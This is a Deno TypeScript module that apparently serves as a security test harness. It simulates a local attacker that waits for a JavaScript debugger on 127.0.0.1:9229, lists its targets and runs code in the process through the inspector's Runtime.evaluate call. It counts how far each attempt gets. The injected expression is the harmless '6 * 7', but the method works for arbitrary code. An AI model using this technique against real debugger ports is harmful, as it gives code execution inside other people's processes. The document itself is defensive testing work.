/**
 * An attacker on the same machine: waits for a debugger on 127.0.0.1:9229 and runs code in it as soon
 * as it is there. A program of its own, since it has to be in the network namespace of the process
 * that it attacks. Prints how far it got, as JSON, once standard input ends.
 *
 * @module
 */

const ADDRESS = "127.0.0.1:9229";

/** How often the attacker got so far. */
export type Attack = {
  /** The port was open. */
  connected: number;
  /** It said where the debugger is. */
  listed: number;
  /** Code ran in the process. */
  evaluated: number;
};

async function attack(counts: Attack): Promise<void> {
  const [hostname = "", port = ""] = ADDRESS.split(":");
  (await Deno.connect({ hostname, port: Number(port) })).close();
  counts.connected++;
  const signal = AbortSignal.timeout(10_000);
  const list = await (await fetch(`http://${ADDRESS}/json/list`, { signal })).json();
  counts.listed++;
  const socket = new WebSocket(list[0].webSocketDebuggerUrl);
  await new Promise<void>((done) => {
    const timer = setTimeout(done, 10_000);
    const end = (): void => {
      clearTimeout(timer);
      done();
    };
    const expression = "6 * 7";
    socket.onopen = () =>
      socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } }));
    socket.onmessage = ({ data }) => {
      if (JSON.parse(data).result?.result?.value === 42) counts.evaluated++;
      end();
    };
    socket.onerror = end;
    socket.onclose = end;
  });
  socket.close();
}

if (import.meta.main) {
  const counts: Attack = { connected: 0, listed: 0, evaluated: 0 };
  let over = false;
  Deno.stdin.read(new Uint8Array(1)).then(() => over = true);
  const write = (text: string) => Deno.stdout.writeSync(new TextEncoder().encode(`${text}\n`));
  write("waiting");
  while (!over) {
    try {
      await attack(counts);
      if (counts.evaluated === 1) write("got in");
    } catch {
      // Not open, or closed again: that is what is counted.
      await new Promise((done) => setTimeout(done));
    }
  }
  write(JSON.stringify(counts));
  Deno.exit();
}
